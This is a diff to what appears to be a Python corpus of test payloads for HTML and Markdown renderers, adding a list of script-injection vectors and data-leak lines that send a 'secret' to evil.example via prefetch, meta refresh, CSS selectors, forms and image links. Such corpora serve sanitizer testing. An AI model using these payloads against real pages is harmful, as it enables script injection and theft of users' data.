@@ -1,4 +1,7 @@
-"""What has been tried against Markdown renderers: scripts, loading and lookalikes."""
+"""What has been tried against pages and renderers: scripts, loading, lookalikes, letting out.
+
+A script that runs calls `alert`; what loads or leaves goes to another host, mostly evil.example.
+"""
 
 HTML = [
     "<script>alert(1)</script>",
@@ -122,4 +125,42 @@ BLOCKS = [
     "```py\nif a: # \u202e } \u2066if b\u2069\n```",
 ]
 
-ALL = [*HTML, *MUTATION, *LINKS, *IMAGES, *FORMULAS, *BLOCKS]
+LETTING_OUT = [
+    "<img srcset='https://evil.example/1x.png 1x, https://evil.example/2x.png 2x'>",
+    "<picture><source srcset=https://evil.example/a.webp><img src=x></picture>",
+    "<link rel=prefetch href=https://evil.example/?q=secret>",
+    "<link rel=dns-prefetch href=//secret.evil.example>",
+    "<link rel=preconnect href=https://evil.example>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/?q=secret'>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}p{font-family:x}</style>",
+    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
+    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
+    "<svg><image href=https://evil.example/x.png /></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1) />#x'></use></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
+    "<form action=https://evil.example><input name=q autofocus><button>Go</button></form>",
+    "<audio src=https://evil.example/a.mp3 autoplay>",
+    "<video poster=https://evil.example/p.png></video>",
+    "<table background=https://evil.example/t.png><tr><td>x</table>",
+    "<a href=https://evil.example ping=https://evil.example/ping>x</a>",
+    '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>',
+    "<marquee onstart=alert(1)>x</marquee>",
+    '"><img src=x onerror=alert(1)>',
+    "' autofocus onfocus=alert(1) x='",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "\u202e>tpircs/<)1(trela>tpircs<",
+    "<\u200bscript>alert(1)</\u200bscript>",
+    "![a![b](https://evil.example/1)](https://evil.example/2 '![c](https://evil.example/3)')",
+    "[![x](https://evil.example/?q=secret)][r]\n\n[r]: https://evil.example/?q=secret",
+    "**[x](javascript:alert(1) '**<img src=x onerror=alert(1)>')**",
+    "> - 1. | ![x](https://evil.example/x) |\n>      |-|",
+]
+
+ALL = [*HTML, *MUTATION, *LINKS, *IMAGES, *FORMULAS, *BLOCKS, *LETTING_OUT]
